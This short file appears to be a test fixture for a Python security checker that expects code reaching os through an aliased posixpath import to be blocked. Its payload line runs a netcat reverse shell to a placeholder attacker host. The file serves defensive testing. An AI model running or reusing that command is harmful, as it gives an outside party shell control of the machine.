# expect: blocked SF102 os reached as posixpath.os, under an alias
import posixpath as pp

pp.os.system("nc -e /bin/sh attacker.example 4444")
